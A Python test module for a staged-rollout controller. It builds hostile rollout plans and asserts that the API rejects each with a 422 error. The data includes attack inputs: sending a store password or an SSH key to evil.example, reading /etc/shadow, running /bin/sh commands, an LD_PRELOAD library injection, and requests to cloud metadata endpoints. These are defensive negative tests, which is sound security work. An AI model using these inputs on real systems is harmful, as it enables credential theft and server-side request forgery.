"""Plans that want more than a server gives to those who are not its owner, as they come over HTTP."""

from __future__ import annotations

from typing import Final

from tests.hostile.served import submission
from tests.hostile.shapes import Request, sent

HEAD: Final = """\
apiVersion: stagedrollout.io/v1alpha1
kind: StagedRollout
metadata: {name: greedy}
spec:
"""
WAITS: Final = "  stages: [{name: go, kind: steps, steps: [{wait: 1s}]}]\n"
LINK_LOCAL: Final = "is a link-local or metadata address; these are never called"


def greedy(what: str, spec: str, says: str, *, stages: str = WAITS) -> Request:
    return sent("POST", "/api/v1/runs", submission(f"{HEAD}  {spec}\n{stages}"), 422, what, says)


def checked(what: str, source: str, says: str) -> Request:
    return greedy(what, f"checks: [{{name: it, {source}}}]", says)


def stepped(what: str, step: str, says: str) -> Request:
    return greedy(
        what, "x-nothing: {}", says, stages=f"  stages: [{{name: go, kind: steps, steps: [{{{step}, undo: none}}]}}]\n"
    )


GREEDY: Final[tuple[Request, ...]] = (
    checked(
        "a plan that asks for the controller's variables", "env: HOME", "may not use the environment variable HOME"
    ),
    checked(
        "a plan that sends the store's password to a host of its own",
        'http: {url: "https://evil.example/", headers: {X-A: {env: ROLLOUT_STORE}}}',
        "plans may not use the environment variable ROLLOUT_STORE",
    ),
    checked("a plan that reads a file", "file: /etc/shadow", "plans may not read the file /etc/shadow"),
    checked(
        "a plan that reads a file above its own", "file: ../../etc/shadow", "plans may not read the file ../../etc"
    ),
    checked(
        "a secret that is a file of the controller's",
        'http: {url: "https://evil.example/", bearer: {file: /root/.ssh/id_rsa}}',
        "plans may not read the file /root/.ssh/id_rsa",
    ),
    checked(
        "a secret of Kubernetes that nobody allowed",
        'http: {url: "https://evil.example/", bearer: {secret: other-team/password}}',
        "plans may not use the secret other-team/password of Kubernetes",
    ),
    checked("a check that is a command", "command: [cat, /etc/shadow]", "plans may not run cat where the controller"),
    checked(
        "a check that is a script", "script: cat /etc/shadow", "plans may run no scripts where the controller runs"
    ),
    stepped("a step that is a command", "command: [/bin/sh, -c, id]", "plans may not run /bin/sh where the controller"),
    greedy(
        "an undo that is a command",
        "x-nothing: {}",
        "plans may not run id where the controller runs",
        stages='  stages: [{name: go, kind: steps, steps: [{http: {url: "http://a/", method: POST}, undo: [id]}]}]\n',
    ),
    greedy(
        "Alembic with an environment of the plan's",
        "database: {env: PLAN_DATABASE}",
        "plans may not run alembic where the controller runs",
        stages="  stages: [{name: go, kind: migration, alembic: {config: evil.ini}}]\n",
    ),
    greedy(
        "a variable that says which library a command loads",
        "commands: {vars: {LD_PRELOAD: /tmp/evil.so}}",
        "plans may not give commands the variable LD_PRELOAD",
    ),
    checked("the metadata of a cloud", 'http: {url: "http://169.254.169.254/latest/meta-data/"}', LINK_LOCAL),
    checked("metadata in an address of IPv6", 'http: {url: "http://[::ffff:169.254.169.254]/"}', LINK_LOCAL),
    checked("metadata behind a translator", 'http: {url: "http://[64:ff9b::a9fe:a9fe]/"}', LINK_LOCAL),
    checked("metadata of another cloud", 'http: {url: "http://100.100.100.200/"}', LINK_LOCAL),
    checked("a neighbour of the link", 'http: {url: "http://[fe80::1]/"}', LINK_LOCAL),
    greedy("a Prometheus that is the metadata", 'prometheus: {url: "http://169.254.169.254"}', LINK_LOCAL),
    greedy(
        "a notification to the metadata",
        'notify: {channels: {team: {webhook: {url: "http://169.254.169.254/"}}}}',
        LINK_LOCAL,
    ),
    greedy("a database that is the metadata", 'database: "postgresql://169.254.169.254/x"', LINK_LOCAL),
    greedy(
        "a database behind a socket of the machine",
        'database: "postgresql:///x?host=/var/run/postgresql"',
        "plans may not use a socket of the controller's machine",
    ),
    greedy(
        "a database at the usual socket", 'database: "postgresql:///x"', "plans may not use a socket of the controller"
    ),
    greedy(
        "a database that is a file of the controller's",
        'database: "sqlite:////var/lib/rollout/rollout.db"',
        "plans may not read the file /var/lib/rollout/rollout.db",
    ),
    greedy(
        "a key of the controller's to show to a server",
        'prometheus: {url: "https://evil.example", tls: {cert: /etc/ssl/own.pem, key: /etc/ssl/own.key}}',
        "plans may not read the file /etc/ssl/own.pem",
    ),
    greedy(
        "flags in a file of the controller's",
        "flag_systems: {files: {flagd: {file: /etc/passwd}}}",
        "plans may not read the file /etc/passwd",
    ),
)
